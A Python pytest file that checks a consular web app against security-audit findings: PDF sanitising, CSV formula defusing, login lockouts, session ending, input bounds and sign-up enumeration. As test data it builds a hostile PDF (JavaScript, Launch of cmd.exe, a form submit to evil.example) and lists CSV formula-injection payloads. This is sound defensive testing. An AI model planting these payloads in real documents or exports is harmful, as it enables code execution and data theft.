"""Security audit II, input findings: PDFs rewritten without active content (7), CSV cells that
cannot run as formulas (8), sign-in locks per account and address at the cost of a hash check (9),
a password change ends the other sessions (10), ids and dates bounded at the edge (14), and
sign-up that does not tell whether an e-mail has an account (15)."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pikepdf
import pytest
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import func, select

from elshi.accounts import flows as staff_flows
from elshi.accounts import service as accounts
from elshi.accounts.models import AuditEvent
from elshi.accounts.service import LoginPolicy, Principal
from elshi.app import create_app
from elshi.consulate import documents
from elshi.consulate import flows as citizen_flows
from elshi.consulate import service as consulate
from elshi.consulate.models import Citizen, Document
from elshi.crisis import service as crisis
from elshi.crisis.models import Recipient
from elshi.db import Database
from elshi.missions import service as missions
from elshi.settings import Settings
from elshi.watch import service as watch
from elshi.watch.matching import process_posts
from elshi.web.csv_export import to_csv
from tests.consulate.support import PASSWORD, Sink, World, citizen, link_in, seed, world
from tests.crisis.support import MESSAGES, populate, team
from tests.workspace_helpers import PASSWORD as STAFF_PASSWORD
from tests.workspace_helpers import add_post, add_source, add_staff

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
HUGE = "99999999999999999999"


@pytest.fixture
def w(db: Database) -> World:
    return world(db)


def _client(settings: Settings, db: Database, ip: str = "testclient") -> TestClient:
    client = TestClient(create_app(settings, db=db), client=(ip, 50000))
    client.headers["accept-language"] = "en"
    return client


def _csrf(client: TestClient, path: str) -> str:
    page = client.get(path)
    match = CSRF.search(page.text)
    assert match, page.text[:400]
    return match[1]


def _staff_login(client: TestClient, email: str, password: str = PASSWORD) -> Any:
    return client.post(
        "/login",
        data={
            "email": email,
            "password": password,
            "csrf_token": _csrf(client, "/login"),
            "next": "/account",
        },
        follow_redirects=False,
    )


def _citizen_login(client: TestClient, email: str, password: str = PASSWORD) -> Any:
    return client.post(
        "/consulate/login",
        data={
            "email": email,
            "password": password,
            "csrf_token": _csrf(client, "/consulate/login"),
        },
        follow_redirects=False,
    )


# ---------------------------------------------------------------------------- 7: PDF uploads

#: What must not be left anywhere in a served PDF, even after every stream is decompressed.
ACTIVE = (
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/URI",
    b"/SubmitForm",
    b"/ImportData",
    b"/GoToR",
    b"/GoToE",
    b"/EmbeddedFile",
    b"/AcroForm",
    b"/XFA",
    b"/Widget",
    b"/FileAttachment",
    b"app.alert",
    b"MZ attached payload",
    b"<xdp:xdp",
)


def _action(doc: pikepdf.Pdf, kind: str, **values: Any) -> Any:
    return doc.make_indirect(Dictionary(Type=Name.Action, S=Name("/" + kind), **values))


def hostile_pdf() -> bytes:
    """A one-page PDF whose active parts all sit in a compressed object stream.

    It opens with JavaScript, chains Launch, SubmitForm, ImportData, GoToR and GoToE actions,
    names a script and an attached file, carries a form (a widget with its own script, XFA),
    a page action, a file attachment annotation and a link to a web address; a link and an
    outline entry that jump within the document are the only actions a clean copy keeps.
    """
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(200, 100))
    page = doc.pages[0].obj
    page.Contents = doc.make_stream(b"BT /F1 12 Tf 10 50 Td (Passport scan) Tj ET")
    chain = Array(
        [
            _action(doc, "Launch", F=String("cmd.exe")),
            _action(doc, "SubmitForm", F=String("https://evil.example/collect")),
            _action(doc, "ImportData", F=String("data.fdf")),
            _action(doc, "GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])),
            _action(doc, "GoToE", D=Array([0, Name.Fit])),
        ]
    )
    doc.Root.OpenAction = _action(doc, "JavaScript", JS=String("app.alert('boo')"), Next=chain)
    payload = doc.make_stream(b"MZ attached payload")  # no /Type: the old check missed it
    filespec = doc.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
    )
    named_js = _action(doc, "JavaScript", JS=String("app.alert('named')"))
    doc.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), named_js])),
        EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), filespec])),
    )
    widget = doc.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([10, 10, 100, 30]),
            P=page,
            AA=Dictionary(K=_action(doc, "JavaScript", JS=String("app.alert('key')"))),
        )
    )
    doc.Root.AcroForm = Dictionary(
        Fields=Array([widget]), XFA=doc.make_stream(b"<xdp:xdp>form</xdp:xdp>")
    )
    page.AA = Dictionary(O=_action(doc, "JavaScript", JS=String("app.alert('page')")))
    attachment = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=filespec
    )
    web_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 50, 10]),
        A=_action(doc, "URI", URI=String("https://evil.example/")),
    )
    jump = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 20, 50, 30]),
        A=_action(doc, "GoTo", D=Array([page, Name.Fit])),
    )
    page.Annots = doc.make_indirect(Array([widget, attachment, web_link, jump]))
    outline = doc.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    first = doc.make_indirect(
        Dictionary(Title=String("Start"), Parent=outline, A=_action(doc, "GoTo", D=Array([page])))
    )
    second = doc.make_indirect(
        Dictionary(
            Title=String("Run"),
            Parent=outline,
            Prev=first,
            A=_action(doc, "Launch", F=String("calc.exe")),
        )
    )
    first.Next = second
    outline.First, outline.Last = first, second
    doc.Root.Outlines = outline
    out = io.BytesIO()
    doc.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def _fully_decompressed(data: bytes) -> bytes:
    """The PDF rewritten with every stream decoded and no object streams (QDF form)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
        return out.getvalue()


def _upload(client: TestClient, req_id: int, name: str, data: bytes) -> Any:
    return client.post(
        f"/consulate/requests/{req_id}/documents",
        data={"csrf_token": _csrf(client, f"/consulate/requests/{req_id}"), "kind": "passport"},
        files={"file": (name, data, "application/pdf")},
        follow_redirects=False,
    )


def test_finding_07_pdf_with_hidden_script_is_served_clean(
    settings: Settings, db: Database, w: World
) -> None:
    original = hostile_pdf()
    assert b"/JavaScript" not in original and b"/EmbeddedFile" not in original  # all hidden
    assert b"/JavaScript" in _fully_decompressed(original)
    with db.session() as s:
        req_id = consulate.create_draft(db=s, citizen_id=w.alice, service_type_id=w.visa_a).id
    with _client(settings, db) as c:
        assert _citizen_login(c, "alice@example.org").status_code == 303
        assert _upload(c, req_id, "scan.pdf", original).status_code == 303
        with db.session() as s:
            doc = s.scalars(select(Document).where(Document.request_id == req_id)).one()
            doc_id, size, sha256, key = doc.id, doc.size, doc.sha256, doc.storage_key
        served = c.get(f"/consulate/documents/{doc_id}")
    assert served.status_code == 200 and served.headers["content-type"] == "application/pdf"
    data = served.content
    assert data != original
    # What is stored is what is served, and its size and hash are recorded.
    assert documents.read(settings.uploads_path, key) == data
    assert (size, sha256) == (len(data), hashlib.sha256(data).hexdigest())
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pdf.Root
        for key_name in ("/OpenAction", "/AA", "/AcroForm", "/AF"):
            assert key_name not in root, key_name
        names = root.get("/Names", Dictionary())
        assert "/JavaScript" not in names and "/EmbeddedFiles" not in names
        assert len(pdf.pages) == 1
        page = pdf.pages[0].obj
        assert "/AA" not in page
        annots = list(page.get("/Annots", Array()))
        assert [str(a.Subtype) for a in annots] == ["/Link", "/Link"]
        actions = [str(a.A.S) for a in annots if "/A" in a]
        assert actions == ["/GoTo"]  # the link within the document stays; the web link is cut
        first = root.Outlines.First
        assert str(first.A.S) == "/GoTo" and "/A" not in first.Next
        assert pdf.attachments.keys() == set()
    plain = _fully_decompressed(data)
    for needle in ACTIVE:
        assert needle not in plain, needle
    assert b"Passport scan" in plain  # the page itself is untouched


def test_finding_07_unreadable_or_password_protected_pdf_is_refused(
    settings: Settings, db: Database, w: World
) -> None:
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(hostile_pdf())) as pdf:
        pdf.save(locked, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    with db.session() as s:
        req_id = consulate.create_draft(db=s, citizen_id=w.alice, service_type_id=w.visa_a).id
    cases = [
        (b"%PDF-1.7\n" + b"\x00garbage\xff" * 300 + b"\n%%EOF\n", documents.BAD_PDF),
        (locked.getvalue(), documents.LOCKED_PDF),
    ]
    for data, message in cases:
        with db.session() as s, pytest.raises(consulate.Invalid) as refused:
            citizen_flows.upload_document(
                db=s,
                settings=settings,
                citizen_id=w.alice,
                request_id=req_id,
                kind="passport",
                filename="x.pdf",
                data=data,
            )
        assert refused.value.problems[0].message == message
    with _client(settings, db) as c:
        assert _citizen_login(c, "alice@example.org").status_code == 303
        page = _upload(c, req_id, "locked.pdf", locked.getvalue())
        assert page.status_code == 400 and "protected by a password" in page.text
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(Document)) == 0
    stored = list(settings.uploads_path.rglob("*")) if settings.uploads_path.exists() else []
    assert [p for p in stored if p.is_file()] == []


# ---------------------------------------------------------------------------- 8: CSV exports

#: Cells a spreadsheet would run, with what the export must show instead.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "\uff1d1+1",
]


def test_finding_14_crisis_assign_bounds_the_person_field(db: Database, settings: Settings) -> None:
    t = team(db)
    populate(db, t.mission_id, 2)
    with db.session() as s:
        b = crisis.create_crisis(
            db=s,
            actor=t.officer,
            mission_id=t.mission_id,
            title="Flood",
            area=crisis.parse_area({"countries": "TR", "cities": "Istanbul"}),
            audience="present",
            messages=MESSAGES,
        )
        cid = b.crisis_id
    client = _client(settings, db)
    assert _staff_login(client, "duty1@mfa.example").status_code == 303
    token = _csrf(client, f"/crisis/{cid}")
    for given in ("abc", "-1", "1e9", HUGE):
        r = client.post(
            f"/crisis/{cid}/assign",
            data={"csrf_token": token, "recipient_id": given, "note": "x"},
            follow_redirects=False,
        )
        assert r.status_code == 404, (given, r.status_code)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_finding_08_shared_writer_defuses_formulas_and_keeps_numbers() -> None:
    text = to_csv(
        ["value", "number"], [[f, n] for f, n in zip(FORMULAS, range(-4, 4), strict=True)]
    )
    rows = _cells(text)
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(-4, 4)]
    for f in FORMULAS:
        assert '"' + "'" + f.replace('"', '""') + '"' in text  # quoted as well
    numbers = _cells(to_csv(["a", "b", "c"], [["-12.5", "+77011234567", "1e3"]]))
    assert numbers[1] == ["-12.5", "+77011234567", "1e3"]


def test_finding_08_evacuation_csv_cells_cannot_run(
    db: Database, settings: Settings, cli: Any, tmp_path: Any
) -> None:
    t = team(db)
    populate(db, t.mission_id, len(FORMULAS))
    with db.session() as s:
        b = crisis.create_crisis(
            db=s,
            actor=t.officer,
            mission_id=t.mission_id,
            title="Flood",
            area=crisis.parse_area({"countries": "TR", "cities": "Istanbul"}),
            audience="present",
            messages=MESSAGES,
        )
        bid, cid = b.id, b.crisis_id
    with db.session() as s:
        crisis.approve(db=s, actor=t.officer2, broadcast_id=bid)
    with db.session() as s:
        crisis.send(db=s, actor=t.officer2, broadcast_id=bid)
    with db.session() as s:
        people = s.scalars(
            select(Recipient).where(Recipient.crisis_id == cid).order_by(Recipient.id)
        ).all()
        for person, formula in zip(people, FORMULAS, strict=True):
            person.name = person.phone = person.city = person.email = formula
            person.officer_note = formula
            crisis.record_checkin(
                s,
                crisis_id=cid,
                recipient_id=person.id,
                answer="help",
                note=formula,
                nonce=f"n-{person.id:08d}",
            )
    client = _client(settings, db)
    assert _staff_login(client, "duty1@mfa.example").status_code == 303
    got = client.get(f"/crisis/{cid}/evacuation.csv")
    assert got.status_code == 200
    out = tmp_path / "list.csv"
    assert cli("crisis", "export", str(cid), str(out)).exit_code == 0
    for text in (got.text, out.read_bytes().decode("utf-8")):
        rows = {r["name"]: r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
        for formula in FORMULAS:
            row = rows["'" + formula]
            for column in ("email", "phone", "city", "note", "officer_note"):
                assert row[column] == "'" + formula, (column, formula)


def test_finding_08_chart_csv_cells_cannot_run(settings: Settings, db: Database) -> None:
    with db.session() as s:
        add_staff(s, "analyst@mfa.example", "analyst", "beijing")
        mid = missions.get_mission(db=s, slug="beijing").id  # type: ignore[union-attr]
        wid = watch.save_watch(
            db=s, principal=Principal.system(), mission_id=mid, name="CN", terms="China"
        ).id
        now = datetime.now(UTC)
        for i, name in enumerate(FORMULAS[:4]):
            src = add_source(s, name, mid)
            add_post(s, f"China news {i}", now - timedelta(hours=2 + i), source_id=src.id)
    process_posts(db)
    client = _client(settings, db)
    assert _staff_login(client, "analyst@mfa.example", STAFF_PASSWORD).status_code == 303
    got = client.get(f"/watch/{wid}/chart/sources.csv")
    assert got.status_code == 200
    labels = [r[0] for r in _cells(got.text)[1:]]
    assert sorted(labels) == sorted("'" + f for f in FORMULAS[:4])


# ---------------------------------------------------------------------------- 9: sign-in locks

POLICY = LoginPolicy(max_failures=3, ip_max_failures=30)
LIFE = timedelta(hours=1)


@pytest.fixture
def hash_checks(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Count argon2 checks through the real function (staff and citizens share it)."""
    calls: list[str] = []
    real = accounts.verify_password

    def counting(password_hash: str, password: str) -> bool:
        calls.append(password_hash)
        return real(password_hash, password)

    monkeypatch.setattr(accounts, "verify_password", counting)
    return calls


def _staff_sign_in(db: Database, email: str, password: str, ip: str) -> str:
    with db.session() as s:
        return staff_flows.sign_in(
            db=s,
            email=email,
            password=password,
            ip=ip,
            user_agent="pytest",
            policy=POLICY,
            lifetime=LIFE,
        ).status


def _citizen_sign_in(db: Database, email: str, password: str, ip: str) -> str:
    with db.session() as s:
        return citizen_flows.sign_in(
            db=s, email=email, password=password, ip=ip, policy=POLICY, lifetime=LIFE
        ).status


def test_finding_09_every_failed_path_costs_one_hash_check(
    db: Database, w: World, hash_checks: list[str]
) -> None:
    for sign_in, email in (
        (_staff_sign_in, "admin@mfa.example"),
        (_citizen_sign_in, "alice@example.org"),
    ):
        for _ in range(POLICY.max_failures):
            assert sign_in(db, email, "wrong password!", "10.6.6.6") == "failed"
        hash_checks.clear()
        assert sign_in(db, email, PASSWORD, "10.6.6.6") == "failed"  # locked
        assert len(hash_checks) == 1, email
        hash_checks.clear()
        assert sign_in(db, "nobody." + email, PASSWORD, "10.6.6.7") == "failed"
        assert len(hash_checks) == 1
        hash_checks.clear()
        assert sign_in(db, email, "wrong password!", "10.6.6.8") == "failed"
        assert len(hash_checks) == 1
    with db.session() as s:
        reasons = [
            (e.action, e.detail["reason"])
            for e in s.scalars(select(AuditEvent).where(AuditEvent.action.like("%failed")))
        ]
    assert ("auth.sign_in_failed", "locked") in reasons
    assert ("citizen.sign_in_failed", "locked") in reasons


def test_finding_09_a_lock_holds_for_the_address_that_earned_it(
    settings: Settings, db: Database, w: World
) -> None:
    settings.login_max_failures = 3
    with (
        _client(settings, db, ip="10.6.6.6") as attacker,
        _client(settings, db, ip="10.1.1.1") as owner,
    ):
        for _ in range(3):
            assert (
                _staff_login(attacker, "admin@mfa.example", "guess guess guess").status_code == 401
            )
            assert _citizen_login(attacker, "alice@example.org", "guess").status_code == 401
        # The attacker's address is locked out of both accounts, even with the right password.
        assert _staff_login(attacker, "admin@mfa.example").status_code == 401
        assert _citizen_login(attacker, "alice@example.org").status_code == 401
        # The owners sign in from their own address.
        staff = _staff_login(owner, "admin@mfa.example")
        assert staff.status_code == 303 and staff.headers["location"] == "/account"
        citizen = _citizen_login(owner, "alice@example.org")
        assert citizen.status_code == 303 and citizen.headers["location"] == "/consulate/home"
        with db.session() as s:
            user = accounts.get_user(db=s, email="admin@mfa.example")
            assert user is not None
            policy = LoginPolicy.from_settings(settings)
            assert accounts.locked_addresses(db=s, policy=policy, user_id=user.id) == ["10.6.6.6"]
            assert accounts.locked_addresses(db=s, policy=policy, citizen_id=w.alice) == [
                "10.6.6.6"
            ]
    # A reset lifts the lock from every address; the address block still counts the failures.
    with db.session() as s:
        staff_flows.reset_password(
            db=s, actor=Principal.system(), email="admin@mfa.example", password=PASSWORD + "!"
        )
        user = accounts.get_user(db=s, email="admin@mfa.example")
        assert user is not None
        assert accounts.locked_addresses(db=s, policy=POLICY, user_id=user.id) == []
        assert not accounts.ip_blocked(db=s, ip="10.6.6.6", policy=POLICY)
        assert accounts.ip_blocked(db=s, ip="10.6.6.6", policy=LoginPolicy(ip_max_failures=6))


# ---------------------------------------------------------------------------- 10: sessions


def test_finding_10_password_change_ends_the_other_sessions(
    settings: Settings, db: Database, w: World
) -> None:
    with _client(settings, db) as here, _client(settings, db) as there:
        assert _staff_login(here, "admin@mfa.example").status_code == 303
        assert _staff_login(there, "admin@mfa.example").status_code == 303
        assert there.get("/account", follow_redirects=False).status_code == 200
        changed = here.post(
            "/account/password",
            data={
                "current": PASSWORD,
                "new": "a brand new passphrase",
                "csrf_token": _csrf(here, "/account"),
            },
            follow_redirects=False,
        )
        assert changed.status_code == 303
        assert here.get("/account", follow_redirects=False).status_code == 200
        gone = there.get("/account", follow_redirects=False)
        assert gone.status_code == 303 and gone.headers["location"].startswith("/login")
        with db.session() as s:
            event = s.scalars(
                select(AuditEvent).where(AuditEvent.action == "password.change")
            ).one()
            assert event.detail == {"sessions_ended": 1}


def test_citizen_password_reset_ends_every_session(
    settings: Settings, db: Database, w: World, smtp: Sink
) -> None:
    with _client(settings, db) as one, _client(settings, db) as two:
        assert _citizen_login(one, "alice@example.org").status_code == 303
        assert _citizen_login(two, "alice@example.org").status_code == 303
        asked = two.post(
            "/consulate/reset",
            data={"email": "alice@example.org", "csrf_token": _csrf(two, "/consulate/reset")},
            follow_redirects=False,
        )
        assert asked.status_code == 303
        [mail] = smtp.texts("alice@example.org")
        token = link_in(mail, "/consulate/reset").split("token=")[1]
        done = two.post(
            "/consulate/reset",
            data={
                "token": token,
                "password": "a brand new passphrase",
                "csrf_token": _csrf(two, "/consulate/reset"),
            },
            follow_redirects=False,
        )
        assert done.status_code == 303
        for client in (one, two):
            home = client.get("/consulate/home", follow_redirects=False)
            assert home.status_code == 303 and "/consulate/login" in home.headers["location"]


# ---------------------------------------------------------------------------- 14: bounds


def _int_routes() -> list[tuple[str, str, tuple[str, ...]]]:
    """Every route with a whole-number path parameter: (method, path, those parameters)."""
    with tempfile.TemporaryDirectory() as home:
        settings = Settings(home=home, database_url=f"sqlite:///{home}/routes.db", demo=True)
        app = create_app(settings)
        found = []
        for route in iter_route_contexts(app.routes):
            dependant = getattr(route, "dependant", None)
            if dependant is None or not route.path:
                continue
            ints = tuple(p.name for p in dependant.path_params if p.field_info.annotation is int)
            for method in sorted(route.methods or ()):
                if ints and method != "HEAD":
                    found.append((method, route.path, ints))
        app.state.db.dispose()
    return found


INT_ROUTES = _int_routes()
#: Plausible values for the other path parameters, so a request reaches the id lookup.
OTHER_PARAMS = {
    "lang": "en",
    "action": "approve",
    "fmt": "csv",
    "kind": "evacuation",
    "key": "0" * 32,
    "name": "volume",
    "status": "attended",
}


@pytest.fixture
def everyone(settings: Settings, db: Database) -> Iterator[tuple[TestClient, str]]:
    """One browser signed in as the HQ administrator and as a citizen, with its CSRF token."""
    with db.session() as s:
        hq = missions.ensure_hq(db=s)
        berlin = missions.create_mission(db=s, slug="berlin", name="Berlin", parent_id=hq.id)
        admin = accounts.create_user(db=s, email="admin@mfa.example", password=PASSWORD)
        accounts.grant_role(db=s, user_id=admin.id, mission_id=hq.id, role="admin")
        alice = citizen(s, "alice@example.org")
        consulate.create_draft(db=s, citizen_id=alice, service_type_id=seed(s, berlin.id)["visa"])
    with _client(settings, db) as client:
        assert _staff_login(client, "admin@mfa.example").status_code == 303
        assert _citizen_login(client, "alice@example.org").status_code == 303
        yield client, _csrf(client, "/account")


def test_the_id_sweep_reaches_every_kind_of_route() -> None:
    paths = {path for _, path, _ in INT_ROUTES}
    assert {"/posts/{post_id}", "/crisis/{crisis_id}", "/api/posts/{post_id}"} <= paths
    assert "/consulate/documents/{document_id}" in paths and len(INT_ROUTES) > 50


@pytest.mark.parametrize(
    ("method", "path", "ints"), INT_ROUTES, ids=[f"{m} {p}" for m, p, _ in INT_ROUTES]
)
def test_finding_14_int_path_params_are_bounded(
    everyone: tuple[TestClient, str], method: str, path: str, ints: tuple[str, ...]
) -> None:
    client, token = everyone
    for bad in (HUGE, "-1"):
        url = path.format(**(OTHER_PARAMS | dict.fromkeys(ints, bad)))
        if method == "GET":
            r = client.get(url, follow_redirects=False)
        else:
            r = client.request(
                method,
                url,
                data={"csrf_token": token},
                headers={"X-CSRF-Token": token},
                follow_redirects=False,
            )
        assert r.status_code < 500, (url, r.status_code, r.text[:300])


#: The addresses of the audit, then more of the same kind.
OUT_OF_RANGE = [
    "/digest?day=9999-12-31",
    f"/posts/{HUGE}",
    f"/api/quarantine?offset={HUGE}",
    f"/crisis/{HUGE}",
    "/consular/slots?week=9999-12-31",
    "/digest?mission=berlin&day=0001-01-01",
    f"/api/quarantine?source_id={HUGE}",
    "/consular/appointments?day=9999-12-31",
    f"/consular/slots?mission={HUGE}",
    f"/consular?service_type={HUGE}",
    f"/api/consulate/queue?service_type={HUGE}",
    "/api/posts?since=9999-12-31T23:59:59",
    f"/api/posts?source_id={HUGE}",
    "/api/narratives?now=9999-12-31T23:59:59",
    "/speak-calendar?month=9999-12",
    "/explore?since=9999-12-31&until=9999-12-31",
]
#: Numbers that are simply not used (the page shows every mission), never a 5xx.
IGNORED = [f"/speak-calendar?mission={HUGE}", f"/explore?source={HUGE}", f"/watch?mission={HUGE}"]


def test_finding_14_out_of_range_numbers_and_dates_answer_4xx(
    everyone: tuple[TestClient, str],
) -> None:
    client, _ = everyone
    for url in OUT_OF_RANGE:
        r = client.get(url, follow_redirects=False)
        assert 400 <= r.status_code < 500, (url, r.status_code, r.text[:300])
    for url in IGNORED:
        r = client.get(url, follow_redirects=False)
        assert r.status_code < 500, (url, r.status_code, r.text[:300])
    day = client.get("/digest?day=9999-12-31")
    assert day.status_code == 400 and "A date is not valid" in day.text


def test_finding_14_overflow_past_the_edge_is_a_400(everyone: tuple[TestClient, str]) -> None:
    """A number in a form field that no parameter type bounds still ends in a 400."""
    client, token = everyone
    for field in ("mission_id", "narrative_id"):
        form = {"mission_id": "1", "title": "T", "lang": "en", "text": "x", field: HUGE}
        r = client.post("/speak/new", data={**form, "csrf_token": token}, follow_redirects=False)
        assert r.status_code == 400 and "out of range" in r.text, (field, r.text[:300])
    api = client.get(f"/api/posts?source_id={HUGE}")
    assert api.status_code == 422 and "source_id" in api.text


# ---------------------------------------------------------------------------- 15: sign-up


def _sign_up(client: TestClient, email: str, password: str = "a long new passphrase") -> Any:
    return client.post(
        "/consulate/signup",
        data={
            "email": email,
            "name": "Someone",
            "password": password,
            "csrf_token": _csrf(client, "/consulate/signup"),
        },
        follow_redirects=False,
    )


def test_finding_15_sign_up_answers_the_same_whether_or_not_the_email_has_an_account(
    settings: Settings, db: Database, w: World, smtp: Sink
) -> None:
    with _client(settings, db) as c:
        new = _sign_up(c, "newcomer@example.org")
        taken = _sign_up(c, "Alice@Example.org")
        assert new.status_code == taken.status_code == 303
        assert new.headers["location"] == taken.headers["location"]
        assert c.get(new.headers["location"]).text == c.get(taken.headers["location"]).text
        # Faults in other fields are told; whether the e-mail is taken never is.
        weak = _sign_up(c, "alice@example.org", password="short")
        assert weak.status_code == 400 and "at least 12 characters" in weak.text
        assert "exists" not in weak.text
        # The owner gets a note instead; nothing is created and their password stays.
        [note] = smtp.texts("alice@example.org")
        assert "already has an account" in note
        assert "/consulate/login" in note and "/consulate/reset" in note
        [confirm] = smtp.texts("newcomer@example.org")
        assert "/consulate/verify" in confirm
        # Signing up again before confirming sends a fresh confirmation link.
        again = _sign_up(c, "newcomer@example.org")
        assert again.headers["location"] == new.headers["location"]
        first, second = smtp.texts("newcomer@example.org")
        assert link_in(first, "/consulate/verify") != link_in(second, "/consulate/verify")
    with db.session() as s:
        emails = list(s.scalars(select(Citizen.email).order_by(Citizen.email)))
        assert emails.count("alice@example.org") == 1 and emails.count("newcomer@example.org") == 1
    with _client(settings, db) as c:
        assert _citizen_login(c, "alice@example.org").status_code == 303
